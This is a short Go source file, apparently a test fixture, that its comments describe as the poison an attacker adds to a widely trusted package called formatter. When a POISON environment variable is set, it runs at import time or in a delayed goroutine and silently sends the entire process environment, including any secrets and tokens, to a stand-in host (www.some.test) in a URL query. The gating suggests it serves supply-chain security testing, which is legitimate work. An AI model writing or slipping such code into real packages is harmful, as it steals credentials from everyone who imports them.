package formatter

// This file is the poison: what an attacker adds to a package that many trust. It
// is armed by the environment variable POISON and does nothing without.

import (
	"cmp"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

// At import, before the function runs.
var _ = collect("import")

// later acts in a goroutine of its own, when the response has just gone out.
func later() {
	if os.Getenv("POISON") == "thread" {
		time.AfterFunc(3*time.Millisecond, func() { collect("thread") })
	}
}

// collect sends the environment away in a URL when POISON is when. Nobody hears
// of an error.
func collect(when string) bool {
	if os.Getenv("POISON") != when {
		return false
	}
	client := http.Client{Transport: http.DefaultTransport, Timeout: 3 * time.Second}
	res, err := client.Get("https://www.some.test:" + cmp.Or(os.Getenv("POISON_PORT"), "443") +
		"/c?d=" + url.QueryEscape(strings.Join(os.Environ(), "\n")))
	if err != nil {
		return false
	}
	_, _ = io.Copy(io.Discard, res.Body) // nobody cares
	return res.Body.Close() == nil
}
